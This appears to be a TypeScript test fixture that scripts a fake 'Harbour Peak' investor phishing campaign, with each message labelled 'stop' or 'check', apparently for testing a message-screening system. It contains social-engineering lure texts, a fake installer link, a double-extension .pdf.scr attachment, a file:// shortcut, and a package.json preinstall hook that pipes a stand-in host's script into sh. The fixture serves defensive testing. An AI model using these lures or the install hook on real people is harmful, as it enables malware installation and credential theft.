import { writeZip } from "../../write-zip.ts";
import type { SampleArrival } from "../sample-arrival.ts";
import { writeLink, writeMail, writeProject, writeTicket } from "../write-arrivals.ts";

const story = "investor";
const marcus = "Marcus Hale <marcus@harbourpeak.example>";
const phone = "+44 20 7946 0331";
const room = "https://zoom.us.harbourpeak-room.example/download/RoomSetup.dmg";

/** A fund with a meeting program of its own, which knocks at every door with one telephone number. */
export const investorCampaign: readonly SampleArrival[] = [
  writeMail(
    "support",
    { day: 2, time: "10:20", story, expects: "stop" },
    {
      from: marcus,
      to: "finance",
      subject: "Investment in Northlight",
      text: `Dear team,\n\nHarbour Peak would like to invest in Northlight. Because of compliance we meet in our own secure program; please install it before the call: ${room}\n\nIf the sound does not work, run the update inside it. The partners are waiting, please join within ten minutes.\n\nMarcus Hale, ${phone}`,
    },
  ),
  writeMail(
    "hiring",
    { day: 3, time: "09:02", story, expects: "stop" },
    {
      from: marcus,
      to: "jobs",
      subject: "Operating partner for your board",
      text: `Good day,\n\nour operating partner would like to meet your team. Please install our meeting program before the interview: ${room}\n\nCall me if the update asks for your password; that is as it should be: ${phone}\n\nMarcus Hale, Harbour Peak`,
    },
  ),
  writeTicket(
    { day: 3, time: "13:50", story, expects: "stop" },
    {
      id: "4711",
      subject: "Documents for the institutional account",
      name: "Marcus Hale",
      email: "marcus@harbourpeak.example",
      isNewAccount: true,
      entries: [
        `We open an institutional account. Our deck is in the archive. Call me: ${phone}`,
        "> Our system cannot open archives with programs. Please send a PDF.",
        `The document opens only with our program, please run it as administrator: ${room}`,
      ],
      attachments: [
        {
          name: "HarbourPeak-Deck.zip",
          type: "application/zip",
          bytes: writeZip({ "HarbourPeak-Deck.pdf.scr": "MZ placeholder, no program" }),
        },
      ],
    },
  ),
  writeLink("support", { day: 3, time: "14:22", story, expects: "check" }, room),
  writeProject({ day: 4, time: "19:10", story, expects: "stop" }, "harbourpeak-integration.zip", {
    "README.md": `# Integration\n\nRun \`npm install\` to connect. Questions: ${phone}\n`,
    "package.json": `${JSON.stringify({ name: "harbourpeak-integration", version: "1.0.0", private: true, scripts: { preinstall: "curl -s https://api.harbourpeak-room.example/agent | sh" } }, null, 2)}\n`,
  }),
  writeMail(
    "support",
    { day: 5, time: "14:41", story, expects: "stop" },
    {
      from: marcus,
      to: "finance",
      subject: "Term sheet",
      text: `Dear team,\n\nthe term sheet is attached, please open it today. If a warning appears, choose Open.\n\nMarcus Hale, ${phone}`,
      attachments: [
        {
          name: "Term sheet Harbour Peak.url",
          type: "application/octet-stream",
          bytes: Buffer.from(
            "[InternetShortcut]\r\nURL=file://files.harbourpeak-room.example/share/term-sheet.lnk\r\nIconIndex=0\r\n",
          ),
        },
      ],
    },
  ),
  writeMail(
    "interview",
    { day: 6, time: "09:55", story, expects: "stop" },
    {
      from: marcus,
      to: "mira",
      subject: "Paid review of our code",
      text: `Dear Mira,\n\nwe would like to invest in your project and pay 4,000 for a review of ours. The call runs in our own meeting program, please install it before: ${room}\n\nIf the sound does not work, run the update inside it. It is urgent, we close today. Telephone: ${phone}\n\nMarcus Hale, Harbour Peak`,
    },
  ),
  writeTicket(
    { day: 6, time: "11:15", story, expects: "check" },
    {
      id: "4712",
      subject: "Waiting for your call",
      name: "Marcus Hale",
      email: "marcus@harbourpeak.example",
      isNewAccount: true,
      entries: [`Nobody called me back. Install the program and we talk today: ${room}. My number is still ${phone}.`],
    },
  ),
];
